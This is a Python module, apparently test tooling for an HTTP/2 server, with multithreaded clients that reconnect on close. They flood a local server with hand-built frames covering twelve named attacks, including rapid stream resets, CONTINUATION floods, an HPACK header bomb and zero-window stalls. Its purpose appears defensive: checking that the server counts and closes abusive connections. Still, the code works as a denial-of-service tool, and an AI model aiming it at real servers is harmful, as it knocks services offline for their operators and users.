"""HTTP/2 clients that repeatedly send frames that cost the server more than the client, as fast as the server reads them."""

from __future__ import annotations

import contextlib
import select
import socket
import threading
from collections.abc import Callable

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = b"\0\0\0\x08"
HEAD = b"\x82\x86\x84\x01\x01a"
"""Header block of `GET /` with the authority `a`."""
TEXT = b"\x82\x86\x04\x05/text\x01\x01a"
"""Header block of a request for a page of 100 kB, for clients whose window stays 0."""
TIMES = 4_000
"""Number of attacks sent on one connection: more than any rate limit accepts in a burst."""
ATTACKERS = 4
READ_BYTES = 1 << 16
WAIT_S = 0.2
STREAMS = 100


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, HEAD)
"""Connection preface with SETTINGS, and a request whose body has not ended."""

Attack = Callable[[int], bytes]
"""Returns the frames to send for a stream id."""

WHOLE = END_HEADERS | END_STREAM
CLOSED: dict[str, Attack] = {
    "resets": lambda id: frame(HEADERS, WHOLE, id, HEAD) + frame(RESET, 0, id, CANCEL),
    "resets_caused": lambda id: frame(HEADERS, END_HEADERS, id, HEAD) + frame(WINDOW_UPDATE, 0, id, bytes(4)),
    "pings": lambda _: frame(PING, 0, 0, bytes(8)),
    "settings": lambda _: frame(SETTINGS, 0, 0),
    "empty_data": lambda _: frame(DATA, 0, 1),
    "connection_window_updates": lambda _: frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"),
    "stream_window_updates": lambda _: frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1"),
    "priorities": lambda _: frame(PRIORITY, 0, 1, b"\0\0\0\0\x09"),
    "unknown_frames": lambda _: frame(0xFA, 0, 0),
    "continuations": lambda id: frame(HEADERS, 0, id, HEAD) if id == 3 else frame(CONTINUATION, 0, 3, b"\0\1a\1b"),
}
"""Attacks for which the server closes the connection. It counts each under this name."""

CRUMB = b"\x40\x06cookie\x7f\x21" + b"c" * 160
"""Header field that is added to the HPACK table; afterwards one byte refers to it."""
OPEN: dict[str, Attack] = {
    "header bomb": lambda id: frame(HEADERS, WHOLE, id, HEAD + CRUMB + b"\xbe" * 4_000),
    "shut windows": lambda id: frame(HEADERS, WHOLE, id, TEXT) if id < 2 * STREAMS else b"",
}
"""Attacks for which the server may keep the connection open."""

ATTACKS = CLOSED | OPEN


def wire(name: str) -> bytes:
    """Returns all bytes that one connection sends."""
    shut = frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0") if name == "shut windows" else b""
    return OPENING + shut + b"".join(ATTACKS[name](3 + 2 * time) for time in range(TIMES))


class Flood:
    """Attackers that reconnect when the server closes their connections."""

    def __init__(self, name: str, port: int) -> None:
        self.ended = 0
        """Number of connections that the server has closed."""
        self._wire, self._port = wire(name), port
        self._over = threading.Event()
        self._threads = [threading.Thread(target=self._run, daemon=True) for _ in range(ATTACKERS)]

    def start(self) -> None:
        for one in self._threads:
            one.start()

    def stop(self) -> int:
        """Stops the attackers and returns the number of connections that the server closed."""
        self._over.set()
        for one in self._threads:
            one.join()
        return self.ended

    def _run(self) -> None:
        while not self._over.is_set():
            # After a refused or reset connection, the attacker also reconnects.
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", self._port), timeout=20) as one:
                one.setblocking(False)
                self._attack(one)

    def _attack(self, one: socket.socket) -> None:
        left = memoryview(self._wire)
        while not self._over.is_set():
            readable, writable, _ = select.select([one], [one] if left else [], [], WAIT_S)
            try:
                if readable and not one.recv(READ_BYTES):
                    self.ended += 1
                    return
                if writable:
                    left = left[one.send(left):]
            except BlockingIOError:
                continue
            except ConnectionError:
                self.ended += 1
                return
